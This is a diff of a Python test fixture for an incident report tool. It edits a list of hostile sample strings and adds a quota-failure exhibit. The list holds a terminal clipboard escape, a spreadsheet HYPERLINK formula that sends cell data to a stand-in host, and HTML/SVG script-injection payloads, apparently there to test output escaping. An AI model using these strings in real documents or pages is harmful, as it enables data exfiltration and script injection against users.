@@ -22,7 +22,7 @@ LIVE = [
     "\x1b]52;c;ZXZpbA==\x07\x1b[2J",
     "\u202eevil\u200b",
     '=HYPERLINK("http://evil.invalid/?"&A1,"x")',
-    "sk-CANARY0123456789abcdef",
+    "sk-" + "CANARY0123456789abcdef",
     "</td></table><iframe srcdoc='<script>alert(1)</script>'>",
     "'-->]]><svg/onload=alert(1)>",
 ]
@@ -155,6 +155,19 @@ def report(name: str = "prod-web") -> findings.Report:
                 note="A row's time is the end of the request.",
                 left_out=12,
                 left_out_usd=Decimal("0.03"),
+            ),
+            "blast_radius": findings.Exhibit(
+                name="blast_radius",
+                title="Failures like this one",
+                frame=pd.DataFrame(
+                    {
+                        "code": ["API_KEY_QUOTA_EXHAUSTED", None],
+                        "key_name": [name, "prod-batch"],
+                        "failed": [61, 2],
+                        "failed_share": [0.97, 0.01],
+                        "first_at": pd.to_datetime([NOW] * 2, utc=True),
+                    }
+                ),
             ),
             "changes": findings.Exhibit(
                 name="changes", title="Changes in the hour before", frame=attempts()[:0]
